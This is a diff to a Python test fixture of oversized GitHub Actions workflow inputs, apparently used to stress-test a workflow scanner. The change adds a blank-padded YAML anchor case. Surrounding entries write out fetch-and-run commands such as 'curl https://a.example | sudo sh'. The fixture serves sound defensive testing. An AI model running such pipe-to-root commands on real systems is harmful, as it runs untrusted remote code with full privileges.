@@ -115,6 +115,7 @@ BOMBS = {
     "downloads that root runs": (".github/workflows/a.yml", SCRIPT + "          curl https://a.example | sudo sh\n" * 9_000),
     "downloads that are kept": (".github/workflows/a.yml", SCRIPT + "          curl https://a.example -o b.sh; make\n" * 9_000),
     "ends in one condition": (".github/workflows/a.yml", SCRIPT + "          if" + " exit 1;" * 8_000 + " then a; fi\n"),
+    "blanks behind an anchor": (".github/workflows/a.yml", "on: push\nx: &a" + " " * 100_000 + "[b]\njobs: {}\n"),
     "heredocs one after the other": (".github/workflows/a.yml", SCRIPT + "          cat <<E\n          E\n" * 40_000),
     "heredocs that nothing ends": (".github/workflows/a.yml", SCRIPT + "          cat <<E > f\n" * 40_000 + "          echo ::set-output name=a::b\n"),
 }  # fmt: skip
